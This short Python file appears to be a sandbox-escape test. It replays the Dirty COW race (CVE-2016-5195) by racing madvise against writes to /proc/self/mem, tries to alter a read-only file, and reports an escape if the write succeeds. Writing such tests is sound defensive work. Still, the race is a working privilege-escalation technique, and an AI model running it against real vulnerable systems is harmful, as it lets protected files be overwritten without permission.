# does: races a private mapping of a read-only file (CVE-2016-5195)
# limits: cpu=3 wall=8
# expect: exited:0
import ctypes
import mmap
import os
import threading
import time

from attack import FACTS, LIBC, escaped

path = FACTS["bound"] + "/attack.py"
with open(path, "rb") as file:
    before = file.read(64)
fd = os.open(path, os.O_RDONLY)
area = mmap.mmap(fd, 4096, flags=mmap.MAP_PRIVATE,
                 prot=mmap.PROT_READ | mmap.PROT_WRITE)
address = ctypes.addressof(ctypes.c_char.from_buffer(area))
end = time.monotonic() + 0.15


def forget():
    while time.monotonic() < end:
        LIBC.madvise(ctypes.c_void_p(address), ctypes.c_size_t(4096), 4)


thread = threading.Thread(target=forget)
thread.start()
try:
    own = os.open("/proc/self/mem", os.O_RDWR)
    while time.monotonic() < end:
        os.pwrite(own, b"overwritten", address)
except OSError:
    pass
thread.join()
with open(path, "rb") as file:
    if file.read(64) != before:
        escaped("the file was written")
